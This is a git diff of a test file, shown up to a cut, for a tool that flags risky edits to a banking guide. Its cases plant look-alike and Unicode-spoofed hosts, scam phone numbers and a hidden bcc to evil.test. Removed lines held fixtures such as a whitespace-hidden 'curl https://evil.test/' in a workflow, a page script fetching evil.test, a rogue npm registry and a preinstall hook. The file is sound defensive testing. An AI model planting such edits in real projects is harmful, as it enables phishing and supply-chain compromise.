@@ -1,34 +1,31 @@
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
 import fc from 'fast-check';
-import { expect, test } from 'vitest';
-import { GUIDE_TEXTS, inTurn, LISTING, RECORD as FIRST, replacing, SAVINGS, TODAY } from '../../checks/fixture.ts';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { GUIDE_TEXTS, inTurn, LISTING, RECORD as FIRST, replacing, SAVINGS } from '../../checks/fixture.ts';
 import { HOSTS } from '../../checks/hosts.ts';
+import { writeFiles } from '../../tests/fixtures/project.ts';
+import { commit, git, startRepository } from '../../tests/fixtures/repository.ts';
+import { isContent } from '../entries.ts';
 import { compare } from './compare.ts';
 import { reportOf } from './report.ts';
-import { CUT, withChanges, type FileChange, type FileState, type Revisions } from './revisions.ts';
+import { readRevisions, type FileChange } from './revisions.ts';
 
 const TERMS = 'src/content/pages/terms.mdx';
 const SOURCES = 'src/data/sources.yaml';
-const CHECK = '.github/workflows/check.yml';
-const LAYOUT = 'src/layouts/Page.astro';
+const SHARED = 'src/data/shared-facts.yaml';
+const CATALOGUE = 'src/data/capabilities.yaml';
+const ROYAL = 'src/content/banks/royal/index.mdx';
 
-/** The small guide with two more banks, and the code around it in a few lines. */
+/** The small guide with two more banks, and code beside it. */
 const BASE: Readonly<Record<string, string>> = {
   ...Object.fromEntries(GUIDE_TEXTS),
-  ...Object.fromEntries(
-    ['Royal', 'Other'].map((name) => [`src/content/banks/${name.toLowerCase()}/index.mdx`, another(name)]),
-  ),
-  [CHECK]: 'on: pull_request\npermissions:\n  contents: read\njobs:\n  check:\n    steps:\n      - run: npm test\n',
-  'package.json': '{ "scripts": { "test": "vitest" }, "dependencies": { "astro": "7.0.0" } }',
-  'package-lock.json': lockOf('7.0.0'),
-  'checks/check.ts': 'export const RULES = [a, b];\n',
-  'scripts/diff/run.ts': 'console.log("facts");\n',
-  'netlify.toml': '[build]\ncommand = "npm run build"\n',
-  'public/_headers': '/*\n  X-Frame-Options: DENY\n',
-  'public/icon.png': '\0one picture',
-  'src/styles/colours.css': ':root { --ink: black; }\n',
-  'src/components/islands/Gauge.tsx': 'export const Gauge = () => null;\n',
-  [LAYOUT]: '<html><body><slot /></body></html>\n',
-  'README.md': '# Guide\n',
+  [ROYAL]: another('Royal'),
+  'src/content/banks/other/index.mdx': another('Other'),
+  '.github/workflows/check.yml': 'on: pull_request\n',
+  'src/view/rows.ts': 'export const rows = [];\n',
+  'tests/rows.test.ts': 'test();\n',
 };
 
 function another(name: string): string {
@@ -39,174 +36,235 @@ function another(name: string): string {
     .replace('a day [@', 'a day, always [@');
 }
 
-function lockOf(version: string, more: object = {}): string {
-  const resolved = `https://registry.npmjs.org/astro/-/astro-${version}.tgz`;
-  return JSON.stringify({
-    packages: { '': {}, 'node_modules/astro': { version, resolved, integrity: `sha512-${version}`, ...more } },
-  });
-}
-
-type TextEdit = (text: string) => string;
-
-/** A new text, an edit of the present text, `undefined` for a removed file, or a moved file or one of another kind. */
-type Edit = string | undefined | TextEdit | { text: string; from?: string; mode?: string };
-type Edits = Readonly<Record<string, Edit>>;
+/** A new text, an edit of the present one, or `undefined` for a removed file. */
+type Edits = Readonly<Record<string, string | undefined | ((text: string) => string)>>;
 
 const change = (path: string, old: string, now: string): Edits => ({ [path]: replacing(old, now) });
 const append = (path: string, text: string): Edits => ({ [path]: (before) => before + text });
-const moved = (from: string, to: string, edit: TextEdit = String): Edits => ({
-  [to]: { from, text: edit(BASE[from] ?? '') },
-});
-const everyRecord = (edit: TextEdit): Edits =>
+const inFirst = (old: string, now: string) => change(FIRST, old, now);
+const beforeText = (text: string) => inFirst('You can send', `${text} You can send`);
+const everyRecord = (edit: (text: string) => string): Edits =>
   Object.fromEntries(Object.keys(BASE).flatMap((path) => (/banks\/\w+\/index\.mdx$/.test(path) ? [[path, edit]] : [])));
 
-/** Edits of the record of First, of the address of its only source, and of the text before a sentence of its page. */
-const inFirst = (old: string, now: string) => change(FIRST, old, now);
-const readAt = (url: string) => inFirst('https://first.example/fees', url);
-const beforeText = (text: string) => inFirst('You can send', `${text} You can send`);
-const linkTo = (url: string) => change(SAVINGS, '(/banks/first/#security)', `(${url})`);
-
-const NEW_LIMIT = replacing('value: $3,000\n      source: listed', 'value: $10,000\n      source: listed');
-const OUTSIDE_LINK = replacing('You can send up to', 'See [the terms](https://terms.example/a). You can send up to');
+const CAPABILITY = 'etransfer:\n    value: true\n    note: From every account.';
 const NEW_UNION = (GUIDE_TEXTS.get(LISTING) ?? '')
   .replaceAll('Harbour', 'New')
   .replace('https://harbour', 'https://xn--nw-eka');
 const READ_AGAIN = replacing('consulted: 2026-11-20', 'consulted: 2026-11-23');
+const MERGED = '{ state: merged, successorName: Royal, notice: It is now Royal., date: 2026-11, source: first-fees }';
 
-/**
- * A proposal, and texts that its report contains, each after its heading: `Top` is above all headings, `…` skips any text.
- * `no Facts, Texts` is a report without these headings.
- */
-const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
-  // Addresses
+const NUMBERS = [
+  '1-800-555-0199',
+  '(604)555-0199',
+  '604-5550198',
+  '604 - 555 - 0197',
+  '1/800/555/0196',
+  '1-800 555 01 95',
+  '18005550194',
+  '1\u2011800\u2011555\u20110193',
+  '+44 20 7946 0000',
+  '1-604-SCAM-NOW',
+  '900 GET CASH',
+  'tel:+19005550199',
+];
+
+/** What a reviewer has to look at twice, with the text that the line contains. */
+const LOOK_TWICE: readonly (readonly [name: string, edits: Edits, ...lines: string[]])[] = [
   [
-    readAt('https://f1rst.example/fees'),
-    'Danger: new host: `https://f1rst.example/fees`, was `https://first.example/fees`…looks like first.example',
-    'Sources: another address, and not read again',
+    'a source on another host',
+    inFirst('https://first.example/fees', 'https://f1rst.example/fees'),
+    '`https://f1rst.example/fees`…**host that is new to the guide** ⚠ **looks like first.example',
   ],
   [
-    { [FIRST]: (text) => text.replaceAll('https://first.example', 'https://f1rst.example') },
-    'Danger: addresses on a new host: `https://f1rst.example`, was `https://first.example`…looks like first.example',
-  ],
-  [readAt('https://fіrst.example/fees'), 'Danger: another script…looks like first.example'],
-  [readAt('https://firsst.example/fees'), 'Danger: one letter from first.example'],
-  [readAt('https://frist.example/fees'), 'Danger: one letter from first.example'],
-  [
-    inFirst('website: https://first.example/', 'website: https://first.test/'),
-    'Danger: first.example with another ending',
-    'Facts: Website: was https',
-  ],
-  [readAt('https://first.example.login.test/fees'), 'Danger: has the name of first.example in it'],
-  [readAt('https://first-login.test/fees'), 'Danger: has the name of first.example in it'],
-  [readAt('https://first.example@evil.test/fees'), 'Danger: a user name in front of the host'],
-  [readAt('https://192.0.2.1/fees'), 'Danger: an IP address'],
-  [
-    change(SOURCES, 'https://regulator.example/notice', 'https://notice.test/'),
-    'Danger: new host: `https://notice.test',
-    'Sources: regulator…used by',
+    'all addresses on another host',
+    { [FIRST]: (text) => text.replaceAll('https://first.example', 'https://firsst.example') },
+    '`firsst.example`…new to the guide, in 2 addresses…one letter from first.example',
   ],
   [
-    append(HOSTS, '\n- evil.ca\n- app1e.com\n'),
-    'Danger: becomes known: `app1e.com` ⚠ **looks like apple.com**',
-    'Danger: becomes known: `evil.ca`',
+    'a letter of another script in a host',
+    inFirst('https://first.example/fees', 'https://fіrst.example/fees'),
+    'new to the guide…looks like first.example',
   ],
-  [change(HOSTS, '- apps.apple.com\n', ''), 'Danger: known host: `apps.apple.com` is gone'],
   [
+    'a user name before the host',
+    inFirst('https://first.example/fees', 'https://first.example@evil.test/fees'),
+    'new to the guide',
+  ],
+  ['an IP address', inFirst('https://first.example/fees', 'https://192.0.2.1/fees'), 'an IP address'],
+  [
+    'a host of another institution',
     inFirst('website: https://first.example/', 'website: https://royal.example/'),
-    'Danger: another host: `https://royal…not among the hosts of First until now',
+    '`https://royal.example/`…host that is new to First',
   ],
-  [{ [FIRST]: OUTSIDE_LINK }, 'Danger: new host: `https://terms.example/a`', 'Texts: How it works'],
-  [linkTo('https://firsst.example/'), 'Danger: firsst.example…one letter from'],
-  [linkTo('//evil.test/a'), 'Danger: //evil.test/a'],
-  [linkTo('javascript:alert`1`'), 'Danger: an address that is no web page'],
-  [beforeText('Write to help@f1rst.example.'), 'Danger: mailbox: `help@f1rst.example`…looks like'],
-  [everyRecord(OUTSIDE_LINK), 'Danger: terms.example…first…royal…other'],
+  ['a link in a text', change(SAVINGS, '(/banks/first/#security)', '(//evil.test/a)'), '`//evil.test/a`'],
+  ['a bare host in a text', beforeText('Go to first-enrol.com/start.'), '`first-enrol.com`…new to the guide'],
+  ['a bare host in capitals', beforeText('Sign in at FIRST.SECURE.COM'), '`FIRST.SECURE.COM`…new to the guide'],
+  ['a host on the list of hosts', append(HOSTS, '- evil.ca\n'), '`evil.ca`…new to the guide'],
   [
-    inFirst('https://apps.apple.com/ca/app/first/id1', 'https://apps.evil.test/ca/app/first/id1'),
-    'Danger: apps.evil.test',
-    'Facts: App Store listing, address',
-  ],
-  // Characters
-  [inFirst('name: First Bank', 'name: First B\u0430nk'), 'Danger: another script: `B⟨U+0430⟩nk`'],
-  [inFirst('$3,000 a day', '$3,0\u200b00 a day'), 'Danger: invisible characters: `$3,0⟨U+200B⟩00`'],
-  [change(TERMS, 'Nobody may', 'Nobody \u202emay'), 'Danger: U+202E'],
-  [{ [TERMS]: replacing('Nobody', 'Nobody\u{E0041}\u{E0042}') }, 'Danger: U+E0041'],
-  [
-    inFirst('publisher: First Bank', 'publisher: First Ba\u0301nk'),
-    'Danger: made of parts: `Ba⟨U+0301⟩nk`',
-    'Sources: now First Ba⟨U+0301⟩nk…the same address under another publisher',
-  ],
-  [change(TERMS, 'Nobody', '\u0430\u0441\u0430'), 'Danger: another script: `⟨U+0430⟩⟨U+0441⟩⟨U+0430⟩`'],
-  [inFirst('up to $3,000', 'up to $3,\uFF10\uFF10\uFF10'), 'Danger: another script'],
-  [{ 'src/content/banks/f\u0456rst.mdx': BASE[FIRST] }, 'Danger: another script: `src/content/banks/f⟨U+0456⟩rst.mdx`'],
-  // With a zero byte git shows no text.
-  [append(CHECK, '# \0\n'), 'Top: + # ⟨U+0000⟩', 'Danger: that cannot be shown as text: `.github'],
-  [change('checks/check.ts', '[a, b]', '[a, \u2066b]'), 'Danger: U+2066'],
-  // Telephone numbers, insurers, code in texts
-  ...[
-    '1-800-555-0199',
-    '1 (800) 555-0199',
-    '18005550199',
-    '1\u2011800\u2011555\u20110199',
-    '1-800-BANKING',
-    '+44 20 7946 0000',
-  ].map((number) => [beforeText(`Call ${number}.`), `Danger: telephone number: \`${number}\``] as const),
-  [
-    inFirst(
-      'faq:',
-      'support:\n  phones:\n    - label: Fraud\n      number: 1-800-555-0142\n      source: first-fees\nfaq:',
-    ),
-    'Danger: telephone number: `1-800-555-0142`',
-    'Facts: Fraud: was not on record, now 1-800-555-0142',
+    'a new host in several files',
+    everyRecord(replacing('You can send up to', 'See [it](https://terms.example/a). You can send up to')),
+    'terms.example…first…royal',
   ],
   [
+    'a host in a draft',
+    { 'src/content/credit-unions/new.mdx': NEW_UNION.replace('---\n', '---\ndraft: true\n') },
+    'xn--nw-eka.example',
+  ],
+  ['a mailbox', beforeText('Write to help@first.example.'), '`help@first.example`…**mailbox'],
+  [
+    'a mailbox in an address',
+    change(SAVINGS, '(/banks/first/#security)', '(mailto:a@first.example?bcc=b@evil.test)'),
+    '`b@evil.test`…**mailbox',
+    '`b@evil.test`…new to the guide',
+  ],
+  [
+    'telephone numbers in any form',
+    beforeText(`Call ${NUMBERS.join(' or ')}.`),
+    ...NUMBERS.map((number) => `\`${number.replace('tel:', '')}\`…**telephone number`),
+  ],
+  ['a short number to text to', beforeText('Text STOP to 54321.'), '`54321`…number to text to'],
+  ['a short number after SMS', beforeText('SMS 7726 now.'), '`7726`…number to text to'],
+  [
+    'an insurer',
     inFirst('value: CDIC', 'value: Trust us'),
-    'Danger: insurer: `Trust us`, was `CDIC`',
-    'Facts: Deposit insurance: was CDIC, now Trust us…the value changed, its source and date did not…on `/banks/first/`',
-    'no Texts',
+    'Deposit insurance: was CDIC, now Trust us…another insurer…its source and date did not…',
   ],
   [
-    append(SAVINGS, "\nimport x from 'node:fs'\n"),
-    'Danger: code in a text: `import x',
-    'Top: does not pass the content check',
-  ],
-  [append(SAVINGS, CUT), 'Danger: line too long to be read…compared to its 2,000th character'],
-  [append(SAVINGS, '\n<iframe src="x"></iframe>\n'), 'Danger: code in a text: `<iframe'],
-  // Values and their evidence
-  [
+    'a value without a new source',
     {
-      [FIRST]: inTurn(
-        READ_AGAIN,
-        replacing('value: $3,000\n      source: listed', 'value: $3,500\n      source: first-fees'),
-      ),
+      ...inFirst('value: $3,000\n      source: listed', 'value: $9,000\n      source: listed'),
+      ...change(ROYAL, 'value: true', 'value: false'),
     },
-    'Facts: now $3,500…+ Fees, `first.example`, official',
-    'Only read again: 1 of their values changed',
+    '**First**: e-Transfer limit, 24 hours: was $3,000, now $9,000',
+    '**Royal**: Interac e-Transfer: was yes, now no',
   ],
   [
+    'another source for the same value',
     inFirst('value: CDIC\n  source: regulator', 'value: CDIC\n  source: first-fees'),
-    'Facts: source replaced…another source for the same value',
+    'source replaced…another source for the same value',
   ],
   [
+    'a claim that is gone',
     inFirst(
       'claims:\n      - value: $1.00\n        source: listed\n      - value: Free\n        source: first-fees',
       'value: Free\n    source: first-fees',
     ),
-    'Facts: was $1.00 or Free, now Free…a claim that disagreed is gone: $1.00 by listed',
+    'was $1.00 or Free, now Free…a claim that disagreed is gone: $1.00 by listed',
   ],
   [
+    'a source declared before',
     inFirst('value: CDIC\n  source: regulator', 'value: CDIC and us\n  source: first-fees'),
-    'Facts: its new source was declared before, and was not read again',
+    'its new source was declared before, and was not read again',
   ],
   [
+    'our closed list for a new fact',
+    inFirst('fees:\n', 'fees:\n  monthly: { value: $4, source: listed }\n'),
+    'Monthly fee: was not on record, now $4…our list of 2025 is closed',
+  ],
+  [
+    'our closed list for a new capability',
+    inFirst('capabilities:\n', 'capabilities:\n  bill_pay: true\n'),
+    'our list of 2025 is closed',
+  ],
+  [
+    'our closed list in a new record',
+    { 'src/content/credit-unions/new.mdx': NEW_UNION },
+    '**New**, new, Listed…Status **operating**…our list of 2025 is closed',
+  ],
+  [
+    'a capability whose note takes it back',
+    inFirst(CAPABILITY, CAPABILITY.replace('From every account.', 'Not available any more.')),
+    'capabilities.etransfer.note…its note may take that back',
+  ],
+  [
+    'a new capability whose note takes it back',
+    inFirst(
+      'capabilities:\n',
+      'capabilities:\n  bill_pay: { value: true, source: first-fees, note: Discontinued in May. }\n',
+    ),
+    'Bill…its note may take that back',
+  ],
+  [
+    'an amount that texts still state',
+    inFirst('value: $3,000\n      source: listed', 'value: $5,000\n      source: listed'),
+    '$3,000 is still in src/content/banks/first/index.mdx, How it works',
+  ],
+  [
+    'a merged bank that others still name',
+    inFirst('{ state: operating, source: first-fees }', MERGED),
+    'Status: was operating, now merged…still named in src/content/guides/savings.mdx',
+  ],
+  [
+    'a number that the record does not have',
+    inFirst('up to $3,000 a day', 'up to $5,000 a day'),
+    'How it works: You can send up to <del>**$3,000**</del> <ins>**$5,000**</ins> a day…in no field of the record: $5,000',
+  ],
+  [
+    'a kind of source',
+    change(SOURCES, 'kind: third-party', 'kind: official'),
+    'kind was third-party, now official…now counts as official',
+  ],
+  [
+    'an address that was not read again',
+    inFirst('https://first.example/fees', 'https://first.example/new'),
+    'url was…another address, and not read again',
+  ],
+  [
+    'a date that was not read again',
+    change(SOURCES, 'published: 2025-08-28', 'published: 2026-08-28'),
+    'another date, and not read again',
+  ],
+  [
+    'a publisher of the same address',
+    inFirst('publisher: First Bank', 'publisher: Regulator'),
+    'the same address under another publisher',
+  ],
+  [
+    'a source that is still used',
+    { [SOURCES]: (text) => text.slice(0, text.indexOf('- id: regulator')) },
+    '**regulator**: removed…still used',
+  ],
+  [
+    'a verification without reading',
+    inFirst('faq:', 'lastVerified: 2026-11-24\nfaq:'),
+    'Last verified…1 of its 1 sources were not read since',
+  ],
+  [
+    'invisible characters',
+    inFirst('$3,000 a day', '$3,0\u200b00 a day'),
+    'How it works…$3,0⟨U+200B⟩00…characters that readers cannot see',
+  ],
+  [
+    'letters that look like others',
+    inFirst('name: First Bank', 'name: First B\u0430nk'),
+    'Name: was First Bank, now First B⟨U+0430⟩nk',
+  ],
+  ['a combining accent', inFirst('publisher: First Bank', 'publisher: First Ba\u0301nk'), 'First Ba⟨U+0301⟩nk'],
+  ['a full-width digit', inFirst('up to $3,000', 'up to $3,\uFF10\uFF10\uFF10'), '⟨U+FF10⟩'],
+  ['a line too long to read', append(SAVINGS, `\n${'word '.repeat(500)}\n`), 'a line too long to be read'],
+];
+
+/** What else the report says, with its heading; `Top` is above all headings. */
+const REPORTED: readonly (readonly [name: string, edits: Edits, ...lines: string[]])[] = [
+  [
+    'a value that was read again',
     {
-      [FIRST]: replacing('value: $3,000\n      source: listed', 'value: $9,000\n      source: listed'),
-      'src/content/banks/royal/index.mdx': replacing('value: true', 'value: false'),
+      [FIRST]: inTurn(
+        READ_AGAIN,
+        replacing('value: $3,000\n      source: listed', 'value: $3,500\n      source: first-fees'),
+        replacing('up to $3,000', 'up to [=limits.eTransfer.per24Hours]'),
+      ),
     },
-    'Facts: **First**: e-Transfer limit, 24 hours: was $3,000, now $9,000',
-    'Facts: **Royal**: Interac e-Transfer: was yes, now no',
+    'Facts: **First**: e-Transfer limit, 24 hours: was $3,000, now $3,500, source added (+ Fees, `first.example`, official; − Listed…on `/banks/first/`, `the comparison`',
+    'Only read again: 1 source consulted again, 1 of their values changed',
   ],
   [
+    'an account',
+    inFirst('- value: Free\n', '- value: Free\n        account: Plus\n'),
+    'Look twice: e-Transfer fee: was $1.00 or Free, now $1.00 or Free (Plus)',
+  ],
+  [
+    'claims that swap their sources',
     {
       [FIRST]: inTurn(
         replacing('- value: $1.00\n        source: listed', '- value: $1.00\n        source: first-fees'),
@@ -215,256 +273,201 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     },
     'Facts: who says what changed (− “$1.00”, Listed…− “Free”, Fees…+ “$1.00”, Fees…+ “Free”, Listed',
   ],
+  ['a score', inFirst('value: true', 'value: false'), 'Facts: Score: **First** … → 0 of'],
   [
-    inFirst('limits:\n  eTransfer:\n    per24Hours:\n      value: $3,000\n      source: listed\n', ''),
-    'Facts: was $3,000, now not on record',
-  ],
-  [
-    inFirst('value: true', 'value: false'),
-    'Facts: was yes, now no…⚠ **capabilities.etransfer is false, and fees.eTransfer says otherwise',
-    'Facts: Score: **First** … → 0 of',
-  ],
-  [
-    inFirst('Its own page says free.', 'Its own page says free up to $500,000.'),
-    'Facts: fees.eTransfer.note: …**$500,000',
-  ],
-  [
-    inFirst('up to $3,000 a day', 'up to $5,000 a day'),
-    'Texts: How it works: You can send up to <del>**$3,000**</del> <ins>**$5,000**</ins> a day …in no field of the record: $5,000',
-  ],
-  [inFirst('title: First Bank online', 'title: CDIC'), 'Texts: page.title…CDIC'],
-  [
-    change('src/data/shared-facts.yaml', 'Up to $1.50', 'Up to $2.00'),
-    'Facts: Every institution…was Up to $1.50, now Up to $2.00',
-  ],
-  [everyRecord(replacing('value: CDIC', 'value: CDIC, up to $1')), 'Facts: 3 institutions…Deposit insurance'],
-  [everyRecord(replacing('## Mobile app\n\nText.', '## Mobile app\n\nWords.')), 'Texts: 3 pages…Mobile app'],
-  [
-    change('src/data/capabilities.yaml', 'colour: n5\n    weight: 1', 'colour: n5\n    weight: 4'),
+    'the weight of scores',
+    change(CATALOGUE, "colour: 'n5'\n    weight: 1", "colour: 'n5'\n    weight: 4"),
     'Facts: Score',
     String.raw`Texts: groups\[1\].weight`,
   ],
   [
-    change('src/data/capabilities.yaml', 'weight: 1', 'importance: 1'),
-    'Top: Scores are not compared: in head, src/data/capabilities.yaml or the records',
+    'a catalogue of another form',
+    change(CATALOGUE, 'weight: 1', 'importance: 1'),
+    'To know: Scores are not compared: in head',
   ],
-  // Sources and dates
   [
-    change(SOURCES, 'kind: third-party', 'kind: official'),
-    'Sources: kind was third-party, now official…now counts as official',
+    'a shared fact',
+    { [SHARED]: inTurn(replacing('Up to $1.50', 'Up to $2.00')) },
+    'Look twice: Every institution…was Up to $1.50, now Up to $2.00',
   ],
-  [inFirst('publisher: First Bank', 'publisher: Regulator'), 'Sources: publisher was First Bank, now Regulator'],
   [
+    'the same fact in several records',
+    everyRecord(replacing('value: CDIC', 'value: CDIC and more')),
+    'Look twice: **3 institutions**: Deposit insurance: was CDIC, now CDIC and more',
+  ],
+  [
+    'the same text on several pages',
+    everyRecord(replacing('## Mobile app\n\nText.', '## Mobile app\n\nWords.')),
+    'Texts: **3 pages**: Mobile app',
+  ],
+  [
+    'a note beside a fact',
+    inFirst('Its own page says free.', 'Its own page says free for 3 people.'),
+    'Look twice: fees.eTransfer.note: …**3**',
+  ],
+  [
+    'sources read again',
     everyRecord(READ_AGAIN),
     'Only read again: 3 sources consulted again, no value changed: consulted was 2026-11-20, now 2026-11-23, stored copy, not opened live',
   ],
-  [change(SOURCES, 'published: 2025-08-28', 'published: 2026-08-28'), 'Sources: another date, and not read again'],
-  [inFirst('faq:', 'lastVerified: 2026-11-24\nfaq:'), 'Facts: Last verified…1 of its 1 sources were not read since'],
   [
-    { [SOURCES]: (text) => text.slice(0, text.indexOf('- id: regulator')) },
-    'Sources: regulator**: removed…still used',
-    'Top: does not pass the content check: 1 new issue',
-  ],
-  // Pages
-  [
+    'a new record',
     { 'src/content/banks/third.mdx': another('Third').replace(/page:\n[^]*?---\n\n[^]*$/, '---\n') },
     'Pages: Added: **Third** `third, without a page`',
-    'Danger: third.example',
-    'Sources: third-fees**: added',
-    'Facts: **Third**, new, Fees, `third.example`, official: Status **operating**; Serves **Ontario**',
+    'Facts: **Third**, new, Fees, `third.example`, official: …Status **operating**',
   ],
-  [moved(TERMS, 'src/content/pages/rules.mdx'), 'Pages: Moved: **Terms** from `/terms/` to `/rules/`'],
   [
-    moved(FIRST, 'src/content/banks/premier/index.mdx', NEW_LIMIT),
-    'Pages: Moved: **First** from `/banks/first/` to `/banks/premier/`',
-    'Facts: was $3,000, now $10,000',
+    'a moved page',
+    { 'src/content/pages/rules.mdx': BASE[TERMS], [TERMS]: undefined },
+    'Pages: Moved: **Terms** from `/terms/` to `/rules/`',
   ],
-  [{ [FIRST]: (text) => text.replaceAll('\n', '\r\n') }, 'Styles and code: Content and data (1)'],
-  [inFirst('type: bank', 'type: bank\nname: Other'), 'Top: cannot be read in head'],
-  [{ [LISTING]: undefined }, 'Pages: Removed: **Harbour**'],
-  [{ [FIRST]: '---\nfees: &a {}\nlimits: *a\n---\n' }, 'Top: it has a YAML alias'],
-  // The other files are still compared.
+  [
+    'a moved record',
+    {
+      [FIRST]: undefined,
+      'src/content/banks/premier/index.mdx': (BASE[FIRST] ?? '').replace('value: $3,000', 'value: $9,000'),
+    },
+    'Pages: Moved: **First** from `/banks/first/` to `/banks/premier/`',
+    'Look twice: was $3,000, now $9,000',
+  ],
+  ['a removed record', { [LISTING]: undefined }, 'Pages: Removed: **Harbour**'],
+  ['other line ends', { [FIRST]: (text) => text.replaceAll('\n', '\r\n') }, `Only another form: ${FIRST}`],
+  ['a comment', inFirst('name: First Bank', 'name: First Bank # so it says'), `Only another form: ${FIRST}`],
   ...['---\nname: "First\n---\n', 'No frontmatter.\n', '---\nfees: &a {}\nlimits: *a\n---\n'].map(
     (text) =>
       [
-        { [FIRST]: text, 'src/data/shared-facts.yaml': replacing('$1.50', '$2.00') },
-        'Top: src/content/banks/first/index.mdx cannot be read in head and is not compared',
-        'Top: does not pass the content check',
-        'Facts: now Up to $2.00',
-        'no Pages, Sources, Texts',
+        'a file that cannot be read, beside others',
+        { [FIRST]: text, [SHARED]: replacing('$1.50', '$2.00') },
+        `To know: ${FIRST} cannot be read in head and is not compared`,
+        'Look twice: now Up to $2.00',
       ] as const,
   ),
-  // Readers see nothing of a draft.
   [
+    'a draft',
     { 'src/content/credit-unions/new.mdx': NEW_UNION.replace('---\n', '---\ndraft: true\n') },
-    'Top: src/content/credit-unions/new.mdx is a draft',
-    'Danger: xn--nw-eka.example',
-    'no Facts, Sources, Pages, Texts, Styles and code',
-  ],
-  [{ 'src/content/credit-unions/new.mdx': NEW_UNION }, 'Danger: xn--nw-eka.example', 'Pages: Added: **New**'],
-  [inFirst('name: First Bank', 'name: First Bank # so it says'), 'Styles and code: Content and data (1)'],
-  [
-    inFirst('name: First Bank', 'name: First Bank # check: allow style: it is right'),
-    'Danger: exception from the content check',
-  ],
-  // Code and settings
-  [
-    change(CHECK, 'contents: read', 'contents: write-all'),
-    'Top: **Workflows and settings on GitHub changed (1)**',
-    'Top: + contents: write-all',
+    'To know: src/content/credit-unions/new.mdx is a draft',
   ],
   [
-    moved(CHECK, '.github/workflows/checks.yml', replacing('contents: read', 'contents: write')),
-    'Top: Workflows and settings on GitHub changed',
-    'Top: + contents: write',
-  ],
-  // The same line is in another job already.
-  [
-    { [CHECK]: (text) => text.replace('    steps:', '    permissions:\n      contents: read\n    steps:') },
-    'Top: + contents: read',
-  ],
-  [
+    'code',
     {
-      '.github/workflows/new.yml': `on: push\n${Array.from({ length: 30 }, (_, at) => `# ${at}\n`).join('')}permissions: write-all\n`,
+      'src/view/rows.ts': "import 'node:child_process';\n",
+      'tests/rows.test.ts': undefined,
+      '.vscode/tasks.json': '{}',
     },
-    'Top: + permissions: write-all',
-    'Top: … and 20 lines more',
+    'Top: **Code: 3 files outside the guide’s content.** Whoever merges has to read each of them',
+    'Top: `src/view/rows.ts` changed',
+    'Top: `tests/rows.test.ts` removed',
+    'Top: `.vscode/tasks.json` added',
   ],
   [
-    { [CHECK]: replacing('npm test', `npm test ${' '.repeat(700)}; curl https://evil.test/`) },
-    'Top: + - run: npm test ; curl https://evil.test/',
-    'Danger: evil.test',
+    'moved code',
+    { '.github/workflows/check.yml': undefined, '.github/workflows/checks.yml': 'on: pull_request\n' },
+    'Top: `.github/workflows/checks.yml` renamed from `.github/workflows/check.yml`',
   ],
   [
-    { 'checks/check.ts': 'export const RULES = [];', 'scripts/diff/run.ts': '', 'src/history/facts.ts': '' },
-    'Top: **Tools and checks changed (3)**: `checks/check.ts`, `scripts/diff/run.ts`, `src/history/facts.ts`',
+    'code among the content',
+    { 'src/content/banks/first/evil.ts': 'run();\n' },
+    'Top: `src/content/banks/first/evil.ts` added',
   ],
-  [
-    change(LAYOUT, '<slot />', '<slot /><script is:inline>fetch("https://evil.test/")</script>'),
-    'Top: **Code that runs in pages changed',
-    'Top: + …<script is:inline',
-    'Danger: evil.test',
-  ],
-  [
-    { 'src/components/facts/Gauge.tsx': 'export const Gauge = () => undefined;\n', 'src/search/engine.ts': '' },
-    'Top: **Code that runs in pages changed (2)**: `src/components/facts/Gauge.tsx`, `src/search/engine.ts`',
-  ],
-  [
-    {
-      'package.json': replacing('"astro"', '"evil": "1.0.0", "astro"'),
-      'package-lock.json': lockOf('7.0.1', { hasInstallScript: true }),
-    },
-    'Top: dependencies.evil: nothing → 1.0.0',
-    'Top: astro: 7.0.0 → 7.0.1, runs a script when it is installed',
-  ],
-  [
-    { 'package-lock.json': lockOf('7.0.0', { integrity: 'sha512-x', resolved: 'https://evil.test/a.tgz' }) },
-    'Top: comes from https://evil.test…the same version with other content',
-  ],
-  [
-    { 'package-lock.json': lockOf('7.0.1', { integrity: 1, hasInstallScript: 'yes' }) },
-    'Top: astro: 7.0.0 → 7.0.1, runs a script when it is installed, without a checksum',
-  ],
-  [
-    change('package.json', '"scripts": {', '"scripts": { "preinstall": "node x.js",'),
-    'Top: scripts.preinstall: nothing → node x.js',
-  ],
-  [
-    change('package-lock.json', '/astro/-/astro-', '/astr0/-/astr0-'),
-    'Top: astro: 7.0.0 → 7.0.0, comes from https://registry.npmjs.org/astr0',
-  ],
-  [
-    change('package.json', '{ "scripts"', '{ "overrides": { "astro": "1.0.0" }, "scripts"'),
-    'Top: overrides.astro: nothing → 1.0.0',
-  ],
-  [
-    { '.npmrc': 'registry=https://evil.test/\n' },
-    'Top: Packages',
-    'Top: + registry=https://evil.test',
-    'Danger: evil.test',
-  ],
-  [{ 'src/content/.gitattributes': '*.mdx -diff\n' }, 'Top: Git settings', 'Top: + *.mdx -diff'],
-  [
-    { 'src/content/pages/secret.mdx': { mode: '120000', text: '../../../.git/config' } },
-    'Danger: link to another file: `../../../.git/config`',
-  ],
-  [
-    { vendor: { mode: '160000', text: '' }, '.gitmodules': '[submodule "vendor"]\n\turl = https://evil.test/a\n' },
-    'Top: Git settings',
-    'Top: + url = https://evil.test/a',
-    'Danger: another repository inside this one: `vendor`',
-  ],
-  [
-    append('netlify.toml', '[[redirects]]\nfrom = "/*"\nto = "https://evil.test/:splat"\n'),
-    'Top: + to = "https://evil.test',
-  ],
-  [
-    { 'public/icon.png': '\0another picture' },
-    'Styles and code: Styles and images (1)',
-    'Danger: cannot be shown as text: `public/icon.png`',
-  ],
-  [{ 'public/robots.txt': 'User-agent: *\nDisallow: /\n' }, 'Top: Files served unchanged', 'Top: + Disallow: /'],
-  [change('public/_headers', 'DENY', 'SAMEORIGIN'), 'Top: Hosts and their headers changed', 'Top: SAMEORIGIN'],
-  [{ 'public/x.html': '<script>1</script>' }, 'Top: Files served unchanged changed…public/x.html'],
-  [
-    change('src/styles/colours.css', 'black', 'red'),
-    'Styles and code: Styles and images (1): `src/styles/colours.css`',
-  ],
-  [change('README.md', 'Guide', 'Guides'), 'Styles and code: Documentation (1)'],
 ];
 
-/** Compares the small guide and its code with an edited copy, as git would read them. */
-function compareWith(edits: Edits) {
